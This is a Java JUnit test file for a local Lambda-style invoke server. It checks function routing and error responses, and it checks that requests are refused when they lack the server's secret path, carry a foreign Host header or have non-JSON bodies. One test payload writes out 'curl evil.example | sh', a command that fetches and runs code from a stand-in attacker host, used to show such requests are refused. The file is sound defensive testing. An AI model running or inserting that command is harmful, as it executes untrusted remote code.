package dev.cloudbench.cli.engine;

import static org.assertj.core.api.Assertions.assertThat;

import com.amazonaws.services.lambda.runtime.RequestStreamHandler;
import dev.cloudbench.core.error.BadInputException;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;

class InvokeServerTest {
    private static final RequestStreamHandler ECHO = (in, out, ctx) -> {
        byte[] body = in.readAllBytes();
        out.write(("{\"function\":\"" + ctx.getFunctionName() + "\",\"got\":" + new String(body, StandardCharsets.UTF_8) + "}")
                .getBytes(StandardCharsets.UTF_8));
    };
    private static final RequestStreamHandler FAILS = (in, out, ctx) -> {
        throw new BadInputException("suite.runs: must be at least 2");
    };

    private static HttpResponse<String> invoke(InvokeServer server, String function, String body)
            throws IOException, InterruptedException {
        HttpRequest request = HttpRequest.newBuilder(URI.create(server.endpoint() + "/2015-03-31/functions/"
                        + function + "/invocations"))
                .header("Content-Type", "application/json").POST(HttpRequest.BodyPublishers.ofString(body)).build();
        return HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString());
    }

    @Test
    void invoke_routesAnArnOrAName_toItsHandler() throws Exception {
        try (InvokeServer server = new InvokeServer(Map.of("PlanRun", ECHO), e -> { })) {
            String arn = "arn%3Aaws%3Alambda%3Aus-east-1%3A000000000000%3Afunction%3APlanRun%3Alive";
            HttpResponse<String> byArn = invoke(server, arn, "{\"a\":1}");
            assertThat(byArn.statusCode()).isEqualTo(200);
            assertThat(byArn.body()).isEqualTo("{\"function\":\"PlanRun\",\"got\":{\"a\":1}}");
            assertThat(byArn.headers().firstValue("X-Amz-Function-Error")).isEmpty();
            assertThat(invoke(server, "PlanRun", "2").body()).contains("\"got\":2");
        }
    }

    @Test
    void invoke_reportsAHandlerException_asLambdaReportsAnUnhandledError() throws Exception {
        try (InvokeServer server = new InvokeServer(Map.of("PlanRun", FAILS), e -> { })) {
            HttpResponse<String> response = invoke(server, "PlanRun", "{}");
            assertThat(response.statusCode()).isEqualTo(200);
            assertThat(response.headers().firstValue("X-Amz-Function-Error")).contains("Unhandled");
            assertThat(response.body()).contains("\"errorType\":\"dev.cloudbench.core.error.BadInputException\"",
                    "\"errorMessage\":\"suite.runs: must be at least 2\"");
        }
    }

    @Test
    void invoke_answersResourceNotFound_forAnUnknownFunction() throws Exception {
        try (InvokeServer server = new InvokeServer(Map.of(), e -> { })) {
            HttpResponse<String> response = invoke(server, "Nope", "{}");
            assertThat(response.statusCode()).isEqualTo(404);
            assertThat(response.headers().firstValue("x-amzn-ErrorType")).contains("ResourceNotFoundException");
        }
    }

    /** A handler that counts its calls: a refused request must leave it at zero. */
    private static final class Counting implements RequestStreamHandler {
        final AtomicInteger calls = new AtomicInteger();

        @Override
        public void handleRequest(InputStream in, OutputStream out, com.amazonaws.services.lambda.runtime.Context ctx)
                throws IOException {
            calls.incrementAndGet();
            out.write("{}".getBytes(StandardCharsets.UTF_8));
        }
    }

    /** One raw HTTP/1.1 request, so that Host and the other headers are exactly as a hostile client sends them. */
    private static int raw(URI origin, String path, String host, String contentType, String body) throws IOException {
        try (Socket socket = new Socket(origin.getHost(), origin.getPort())) {
            byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
            String head = "POST " + path + " HTTP/1.1\r\nHost: " + host + "\r\n"
                    + (contentType == null ? "" : "Content-Type: " + contentType + "\r\n")
                    + "Content-Length: " + bytes.length + "\r\nConnection: close\r\n\r\n";
            socket.getOutputStream().write(head.getBytes(StandardCharsets.US_ASCII));
            socket.getOutputStream().write(bytes);
            String status = new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
            return Integer.parseInt(status.substring(9, 12));
        }
    }

    private static final String INVOKE = "/2015-03-31/functions/StartBenchmark/invocations";

    @Test
    void requestWithoutTheRunsSecret_isRefused_andNothingIsInvoked() throws Exception {
        Counting handler = new Counting();
        try (InvokeServer server = new InvokeServer(Map.of("StartBenchmark", handler), e -> { })) {
            String host = "127.0.0.1:" + server.origin().getPort();
            String evil = "{\"script\":\"curl evil.example | sh\"}";
            assertThat(raw(server.origin(), INVOKE, host, "application/json", evil)).isEqualTo(403);
            assertThat(raw(server.origin(), "/not-the-secret" + INVOKE, host, "application/json", evil)).isEqualTo(403);
            assertThat(handler.calls).as("handler calls after refused requests").hasValue(0);

            String signed = server.endpoint().getRawPath() + INVOKE;
            assertThat(raw(server.origin(), signed, host, "application/json", "{}")).isEqualTo(200);
            assertThat(handler.calls).as("the engine's own request is served").hasValue(1);
        }
    }

    @Test
    void requestForAnotherHost_isRefused_evenWithTheSecret() throws Exception {
        Counting handler = new Counting();
        try (InvokeServer server = new InvokeServer(Map.of("StartBenchmark", handler), e -> { })) {
            String signed = server.endpoint().getRawPath() + INVOKE;
            int port = server.origin().getPort();
            assertThat(raw(server.origin(), signed, "rebound.example:" + port, "application/json", "{}")).isEqualTo(403);
            assertThat(raw(server.origin(), signed, "127.0.0.1:1", "application/json", "{}")).isEqualTo(403);
            assertThat(raw(server.origin(), signed, "localhost:" + port, "application/json", "{}")).isEqualTo(200);
            assertThat(handler.calls).hasValue(1);
        }
    }

    @Test
    void formTextOrNonJsonBodies_areRefused_evenWithTheSecret() throws Exception {
        Counting handler = new Counting();
        try (InvokeServer server = new InvokeServer(Map.of("StartBenchmark", handler), e -> { })) {
            String signed = server.endpoint().getRawPath() + INVOKE;
            String host = "127.0.0.1:" + server.origin().getPort();
            assertThat(raw(server.origin(), signed, host, "application/x-www-form-urlencoded", "a=1")).isEqualTo(403);
            assertThat(raw(server.origin(), signed, host, "text/plain", "{}")).isEqualTo(403);
            assertThat(raw(server.origin(), signed, host, "multipart/form-data; boundary=x", "{}")).isEqualTo(403);
            assertThat(raw(server.origin(), signed, host, null, "{}")).isEqualTo(403);
            assertThat(raw(server.origin(), signed, host, "application/json", "not json")).isEqualTo(403);
            assertThat(handler.calls).hasValue(0);
            assertThat(raw(server.origin(), signed, host, "application/octet-stream", "{\"a\":1}"))
                    .as("the AWS SDK's type for Invoke payloads").isEqualTo(200);
        }
    }

    @Test
    void everyServerHasItsOwnSecret() throws Exception {
        try (InvokeServer a = new InvokeServer(Map.of(), e -> { }); InvokeServer b = new InvokeServer(Map.of(), e -> { })) {
            assertThat(a.endpoint().getPath()).hasSizeGreaterThan(40).isNotEqualTo(b.endpoint().getPath());
        }
    }
}
